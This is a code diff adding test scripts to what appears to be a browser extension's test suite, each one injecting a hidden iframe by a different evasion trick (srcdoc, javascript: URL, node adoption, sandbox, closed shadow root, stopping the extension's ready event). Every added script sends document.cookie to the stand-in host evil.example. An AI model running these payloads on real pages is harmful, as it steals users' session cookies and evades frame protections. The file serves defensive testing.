@@ -1553,6 +1553,65 @@ export const MAIN_WORLD_SCRIPTS = {
   root.firstChild.srcdoc = '<body><script>fetch("https://evil.example/ready-stopped-at-root?c=" + encodeURIComponent(document.cookie))<\\/script>';
 })();`,
 
+  /** A srcdoc given to a frame in the page, the handover's event stopped at the window, document and frame (added after Saq's). */
+  'ready-stopped-in-page': `(() => {
+  const stop = (event) => event.stopImmediatePropagation();
+  const frame = document.createElement('iframe');
+  frame.style.display = 'none';
+  for (const target of [window, document, frame]) target.addEventListener('saq:frame-ready/v1', stop, true);
+  document.body.appendChild(frame);
+  frame.srcdoc = '<body><script>fetch("https://evil.example/ready-stopped-in-page?c=" + encodeURIComponent(document.cookie))<\\/script>';
+})();`,
+
+  /** A loaded srcdoc frame sent to a javascript: URL whose result is markup: a new document, its script sending. */
+  'javascript-url-frame': `(() => {
+  const frame = document.createElement('iframe');
+  frame.style.display = 'none';
+  frame.srcdoc = '<p>first</p>';
+  document.body.appendChild(frame);
+  const proxy = window[window.length - 1];
+  let done = false;
+  frame.addEventListener('load', () => {
+    if (done) return;
+    done = true;
+    const code = '<scr' + 'ipt>fetch("https://evil.example/javascript-url-frame?c=" + encodeURIComponent(document.cookie))</scr' + 'ipt>';
+    proxy.location.href = 'javascript:' + encodeURIComponent(JSON.stringify(code));
+  });
+})();`,
+
+  /** A frame given its srcdoc, then moved at once into a same-origin frame's document (a new browsing context there). */
+  'srcdoc-given-moved': `(() => {
+  const outer = document.createElement('iframe');
+  outer.style.display = 'none';
+  document.body.appendChild(outer);
+  const doc = window[window.length - 1].document;
+  const frame = document.createElement('iframe');
+  document.body.appendChild(frame);
+  frame.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-moved?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  doc.body.appendChild(doc.adoptNode(frame));
+})();`,
+
+  /** A srcdoc given to a sandboxed frame (allow-scripts allow-same-origin) already in the page. */
+  'srcdoc-given-sandboxed': `(() => {
+  const frame = document.createElement('iframe');
+  frame.style.display = 'none';
+  frame.sandbox = 'allow-scripts allow-same-origin';
+  document.body.appendChild(frame);
+  frame.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-sandboxed?c=" + encodeURIComponent(document.cookie))<\\/script>';
+})();`,
+
+  /** A srcdoc given to a frame inside a same-origin frame that is itself in a closed shadow root. */
+  'srcdoc-given-shadow-nested': `(() => {
+  const host = document.createElement('div');
+  document.body.appendChild(host);
+  const root = host.attachShadow({ mode: 'closed' });
+  root.innerHTML = '<iframe style="display:none"></iframe>';
+  const doc = root.firstChild.contentDocument;
+  const inner = doc.createElement('iframe');
+  doc.body.appendChild(inner);
+  inner.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-shadow-nested?c=" + encodeURIComponent(document.cookie))<\\/script>';
+})();`,
+
   /** A frame the srcdoc's parser makes inside a srcdoc frame, reached by window[n][0] at the outer load. */
   'pristine-srcdoc-parsed-frame': `(() => {
   const frame = document.createElement('iframe');
